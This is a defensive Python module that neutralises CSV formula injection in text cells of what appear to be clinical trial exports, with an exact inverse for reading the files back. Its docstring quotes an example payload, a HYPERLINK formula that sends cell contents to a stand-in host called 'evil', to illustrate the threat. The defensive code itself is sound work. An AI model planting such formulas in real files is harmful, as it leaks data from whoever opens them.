"""Neutralise spreadsheet formulas in CSV text cells (CSV injection).

A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, CR or LF)
is run as a formula when the file is opened in Excel or LibreOffice:
``=HYPERLINK("http://evil/?"&A1, "open")`` from a lesion site or a reader name
leaks data.  As OWASP recommends ("CSV Injection"), such text cells get a
leading apostrophe, which spreadsheets show as text; the full-width forms
(``＝ ＋ － ＠``), which some locales' spreadsheets also evaluate, are treated
the same.  The writer also quotes cells holding commas or quotes (pandas).

Decisions:

- Only **text** cells are changed.  Numeric variables (``TRSTRESN``, ``AVAL``,
  ``PCHG``) are written as numbers, so ``-12.5`` stays ``-12.5``; a text cell
  that is a plain number (``"-12.5"`` in ``TRORRES``) is a number to a
  spreadsheet, not a formula, and is kept.
- XPT files are not changed: SAS does not evaluate cells, and values must be
  exact there.
- :func:`restore` is the exact inverse, used when we read our CSV back; an
  apostrophe a value really starts with is itself protected, so
  ``restore(neutralise(x)) == x`` for every ``x``.
"""

from __future__ import annotations

import re

__all__ = ["neutralise", "restore"]

_TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def _needs(text: str) -> bool:
    if not text:
        return False
    if text[0] in _TRIGGERS:
        return _PLAIN_NUMBER.fullmatch(text) is None
    return text[0] == "'" and _needs(text[1:])


def neutralise(text: str) -> str:
    r"""Return ``text`` safe as a CSV cell (a leading ``'`` before a formula).

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://x")'), neutralise("-12.5")
    ('\'=HYPERLINK("http://x")', '-12.5')
    >>> neutralise("@SUM(A1)"), neutralise("\t=1"), neutralise("-1+2")
    ("'@SUM(A1)", "'\t=1", "'-1+2")
    """
    return "'" + text if _needs(text) else text


def restore(text: str) -> str:
    """Undo :func:`neutralise` (for reading our own CSV back).

    Examples
    --------
    >>> all(restore(neutralise(x)) == x for x in ["=1", "'=1", "''=1", "'", "-3"])
    True
    """
    return text[1:] if text[:1] == "'" and _needs(text[1:]) else text
